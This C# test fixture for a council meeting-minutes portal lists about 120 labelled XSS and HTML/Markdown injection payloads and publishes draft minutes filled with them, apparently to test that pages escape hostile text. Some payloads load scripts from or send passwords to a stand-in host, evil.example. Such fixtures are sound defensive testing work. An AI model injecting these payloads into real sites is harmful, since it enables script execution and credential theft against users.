using MinutesPortal.Domain;
using MinutesPortal.Domain.Meetings;
using MinutesPortal.Domain.Panels;
using MinutesPortal.Domain.People;
using MinutesPortal.Domain.Texts;

namespace MinutesPortal.TestCommon;

/// <summary>Texts that would run a script, load something or lead astray, if a page wrote them as they are. Each is of another kind.</summary>
public static class HostileTexts
{
    public static IReadOnlyList<(string Kind, string Text)> All { get; } =
    [
        ("script", "<script>alert(1)</script>"),
        ("script from elsewhere", "<script src=https://evil.example/x.js></script>"),
        ("script in mixed case", "<ScRiPt>alert(1)</sCrIpT>"),
        ("script within script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("script with a slash", "<script/x>alert(1)</script/x>"),
        ("script that is never closed", "<script>alert(1)"),
        ("script as a module", "<script type=module>import 'https://evil.example/x.js'</script>"),
        ("event of a picture", "<img src=x onerror=alert(1)>"),
        ("event with a slash for a space", "<img/src=x/onerror=alert(1)>"),
        ("event without quotes", "<body onload=alert(1)>"),
        ("event of details", "<details open ontoggle=alert(1)>x</details>"),
        ("event of a field that has the focus", "<input autofocus onfocus=alert(1)>"),
        ("event of a video", "<video><source onerror=alert(1)></video>"),
        ("event of an animation", "<p style='animation:x' onanimationstart=alert(1)>x</p>"),
        ("event of the pointer", "<b onpointerover=alert(1)>words</b>"),
        ("event in an attribute that breaks out", "\"><img src=x onerror=alert(1)>"),
        ("attribute that breaks out", "\" onmouseover=\"alert(1)\" x=\""),
        ("attribute that breaks out of single quotes", "' onclick='alert(1)' x='"),
        ("attribute of back quotes", "<img alt=``onerror=alert(1) src=x>"),
        ("attribute across lines", "<img src=x\nonerror\n=\nalert(1)>"),
        ("tag that is never closed", "<img src=x onerror=alert(1) "),
        ("svg with an event", "<svg onload=alert(1)>"),
        ("svg with a script", "<svg><script>alert(1)</script></svg>"),
        ("svg with an animated link", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>"),
        ("svg that uses another", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg>"),
        ("svg with a foreign object", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>"),
        ("math with a link", "<math><mtext href='javascript:alert(1)'>x</mtext></math>"),
        ("math that changes the parser", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        ("style element", "<style>@import 'https://evil.example/x.css';</style>"),
        ("style attribute", "<p style=\"background:url(https://evil.example/x)\">x</p>"),
        ("style with an expression", "<p style=\"width:expression(alert(1))\">x</p>"),
        ("style with a binding", "<p style=\"-moz-binding:url(https://evil.example/x#y)\">x</p>"),
        ("style that covers the page", "<div style='position:fixed;inset:0;z-index:9999'>Sign in again</div>"),
        ("frame", "<iframe src=https://evil.example></iframe>"),
        ("frame with a document", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
        ("frame with a script address", "<iframe src=javascript:alert(1)></iframe>"),
        ("object", "<object data=https://evil.example/x.swf></object>"),
        ("embedded object", "<embed src=https://evil.example/x.swf>"),
        ("applet", "<applet code=x.class></applet>"),
        ("form", "<form action=https://evil.example><input name=password><button>Sign in</button></form>"),
        ("button that sends another form elsewhere", "<button form=search formaction=https://evil.example>Search</button>"),
        ("refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"),
        ("policy", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">"),
        ("base", "<base href=https://evil.example/>"),
        ("linked style", "<link rel=stylesheet href=https://evil.example/x.css>"),
        ("preload", "<link rel=preload as=script href=https://evil.example/x.js>"),
        ("template", "<template><script>alert(1)</script></template>"),
        ("template with a shadow", "<div><template shadowrootmode=open><script>alert(1)</script></template></div>"),
        ("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
        ("text that ends early", "</textarea><script>alert(1)</script>"),
        ("title that ends early", "</title><script>alert(1)</script>"),
        ("plaintext", "<plaintext><script>alert(1)</script>"),
        ("list of fields", "<select><option><script>alert(1)</script></select>"),
        ("link to a script", "<a href=javascript:alert(1)>words</a>"),
        ("link to a script in mixed case", "<a href='JaVaScRiPt:alert(1)'>words</a>"),
        ("link to a script with a tab", "<a href=\"java\tscript:alert(1)\">words</a>"),
        ("link to a script with a line end", "<a href=\"java\nscript:alert(1)\">words</a>"),
        ("link to a script with entities", "<a href=\"&#106;avascript&colon;alert&lpar;1&rpar;\">words</a>"),
        ("link to a script with entities of other forms", "<a href=\"&#x0000006A;avascript&#0000058;alert(1)\">words</a>"),
        ("link to a script after control characters", "<a href=\"\u0001\u001f javascript:alert(1)\">words</a>"),
        ("link to data", "<a href='data:text/html,<script>alert(1)</script>'>words</a>"),
        ("link to encoded data", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>words</a>"),
        ("link to VBScript", "<a href='vbscript:msgbox(1)'>words</a>"),
        ("link to a blob", "<a href='blob:https://evil.example/1'>words</a>"),
        ("link without a scheme", "<a href='//evil.example/x'>words</a>"),
        ("link with backslashes", "<a href='\\\\evil.example\\x'>words</a>"),
        ("link that pings", "<a href='https://example.org/' ping='https://evil.example' target=_blank>words</a>"),
        ("Markdown link to a script", "[words](javascript:alert(1))"),
        ("Markdown link to a script in mixed case", "[words](JAVAscript:alert(1))"),
        ("Markdown link to a script with entities", "[words](&#106;avascript:alert(1))"),
        ("Markdown link to a script in angle brackets", "[words](<javascript:alert(1)>)"),
        ("Markdown link to a script with a tab", "[words](<java\tscript:alert(1)>)"),
        ("Markdown link to a script with percent signs", "[words](javascript%3Aalert(1))"),
        ("Markdown link to data", "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("Markdown link to VBScript", "[words](vbscript:msgbox(1))"),
        ("Markdown link without a scheme", "[words](//evil.example/x)"),
        ("Markdown link with backslashes", "[words](/\\evil.example/x)"),
        ("Markdown link with a title that breaks out", "[words](https://example.org/ \"\\\" onmouseover=\\\"alert(1)\")"),
        ("Markdown link by a definition", "[words][1]\n\n[1]: javascript:alert(1)"),
        ("Markdown address", "<javascript:alert(1)>"),
        ("Markdown picture", "![words](https://evil.example/x.png)"),
        ("Markdown picture of a script", "![\" onerror=\"alert(1)](x)"),
        ("Markdown picture in a link", "[![words](x)](javascript:alert(1))"),
        ("Markdown code", "`<script>alert(1)</script>`"),
        ("Markdown block of code", "```html\n<script>alert(1)</script>\n```"),
        ("Markdown attributes", "# words {onclick=alert(1)}"),
        ("Markdown emphasis around HTML", "**<img src=x onerror=alert(1)>**"),
        ("Markdown table with HTML", "| <script>alert(1)</script> | b |\n| --- | --- |\n| [c](javascript:alert(1)) | <svg onload=alert(1)> |"),
        ("address in words that breaks out", "https://example.org/\"onmouseover=\"alert(1)"),
        ("comment", "<!-- --><script>alert(1)</script><!-- -->"),
        ("comment that ends oddly", "<!--><script>alert(1)</script>-->"),
        ("comment with an exclamation mark", "<!-- --!><img src=x onerror=alert(1)>"),
        ("comment of old browsers", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
        ("CDATA", "<![CDATA[<script>alert(1)</script>]]>"),
        ("processing instruction", "<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:alert(1)\"?>"),
        ("entities that are decoded twice", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;"),
        ("escapes of script", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript\\x3e"),
        ("letters that look alike", "＜script＞alert(1)＜/script＞ ‹script› ﹤script﹥"),
        ("scheme of letters that look alike", "<a href='jаvascript:alert(1)'>words</a>"),
        ("letters that fold into others", "<ſcript>alert(1)</ſcript> <a href='javaſcript:alert(1)'>words</a>"),
        ("override of the direction", "\u202e>tpircs/<)1(trela>tpircs<\u202c"),
        ("isolate of the direction", "invoice\u2066gpj.exe\u2069"),
        ("letters without width", "<scr\u200bipt>alert(1)</scr\u200bipt> <a href='java\u200bscript:alert(1)'>words</a>"),
        ("null", "<scr\0ipt>alert(1)</scr\0ipt><img src=x o\0nerror=alert(1)>"),
        ("byte order mark", "\ufeff<script>alert(1)</script>"),
        ("half a pair", "\ud800<script>alert(1)</script>"),
        ("control sequences", "\u001b]8;;https://evil.example\u0007words\u001b]8;;\u0007\u009b31m"),
        ("line separators", "x\u2028<script>alert(1)</script>\u2029"),
        ("template of another program", "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> @{alert(1)} #{1}"),
        ("element that Word adds", "<o:p onclick=alert(1)>x</o:p><xml><script>alert(1)</script></xml>"),
        ("drawing that Word adds", "<v:shape style='behavior:url(#default#VML)' onload=alert(1)><v:imagedata src=https://evil.example/x></v:shape>"),
        ("custom element", "<x-y onclick=alert(1) contenteditable>x</x-y>"),
        ("popover", "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>words</button>"),
        ("ids of the page", "<a id=main-content name=document href=#x>words</a>"),
    ];

    /// <summary>The texts as one, with a blank line between them.</summary>
    public static string Joined => string.Join("\n\n", All.Select(one => one.Text));

    /// <summary>Publishes draft minutes in which everything that people write is hostile.</summary>
    public static async Task<(Panel Panel, Meeting Meeting)> PublishAsync(TestOffice office)
    {
        var person = new Person(All[7].Text, PersonKind.Councillor);
        person.SetContact(Joined);
        await office.PublishAsync(person, person.Publish());
        var panel = new Panel($"Panel {All[0].Text}", PanelKind.Committee);
        panel.SetPurpose(Joined);
        panel.Appoint(person.Id, MembershipRole.Chair, new(2020, 5, 1));
        await office.PublishAsync(panel, panel.Publish());
        var meeting = await office.WithAgendaAsync(panel, TimeProvider.System.Today().AddDays(-30), agenda =>
        {
            agenda.SetContact(Joined);
            agenda.SetDirections(Joined);
            agenda.SetIntroduction(Joined);
            foreach (var (kind, text) in All)
            {
                agenda.AddItem($"{kind} {text}", purpose: text).SetPresenter(text);
            }
        });
        foreach (var (item, text) in meeting.Items.Skip(2).Zip(All.Select(one => one.Text)))
        {
            item.WriteDecision(text);
            item.WriteMinutes($"{text}\n\nRESOLVED that {text}\n\n(a) {text}");
        }

        meeting.RecordAttendance(new Attendee(All[0].Text, Capacity.Member, Presence.Present), new Attendee(All[7].Text, Capacity.Officer, Presence.Present, role: new BilingualText(All[16].Text)));
        await office.PublishAsync(meeting, meeting.PublishDraftMinutes(TimeProvider.System.Today()));
        return (panel, meeting);
    }
}
